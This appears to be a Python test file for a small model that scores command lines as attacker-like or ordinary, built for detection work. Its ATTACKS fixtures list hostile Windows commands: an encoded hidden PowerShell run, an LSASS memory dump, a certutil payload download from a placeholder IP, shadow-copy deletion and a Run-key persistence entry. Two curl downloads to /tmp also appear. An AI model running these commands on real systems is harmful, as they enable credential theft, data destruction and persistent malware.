"""The model that ships: small, the same everywhere, and right on lines nobody fitted it to."""

from importlib import resources

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.triage.lines.model import DIMENSIONS, model, pieces
from vedette.triage.lines.signs import signs_of

ATTACKS = [
    "powershell -nop -w hidden -enc aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABp",
    r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
    r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe",
    "vssadmin delete shadows /all /quiet",
    r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v x /d C:\Users\Public\x.exe /f',
]
ORDINARY = [
    "Get-ChildItem -Path $PSScriptRoot -Filter *.ps1 | ForEach-Object { . $_.FullName }",
    "choco install 7zip --yes --no-progress",
    "msbuild.exe solution.sln /p:Configuration=Release",
    "if (-not (Test-Path $path)) { New-Item -ItemType Directory -Path $path | Out-Null }",
    "git config --global core.autocrlf false",
]


def score(line: str) -> float:
    return model().score(line, signs_of(line))


def test_lines_of_attackers_score_above_ordinary_ones() -> None:
    assert min(map(score, ATTACKS)) > max(map(score, ORDINARY))


@pytest.mark.parametrize("line", ORDINARY)
def test_ordinary_lines_are_not_pointed_at(line: str) -> None:
    assert not signs_of(line) or score(line) < model().windows


def test_what_only_this_line_has_counts_for_nothing() -> None:
    one = "curl http://198.51.100.7/abc -o /tmp/x"
    other = "curl http://203.0.113.99/xyz/uvw -o /tmp/x"
    assert score(one) == score(other)


def test_it_is_a_few_hundred_kilobytes_and_says_what_it_was_made_from() -> None:
    data = resources.files("vedette.triage.lines").joinpath("model.bin").read_bytes()
    assert len(data) < 300_000
    assert len(model().made_from) == 7


@given(st.text(max_size=3000))
def test_any_line_has_a_score(line: str) -> None:
    assert -100 < score(line) < 100
    assert all(0 <= one < DIMENSIONS for one in pieces(line))
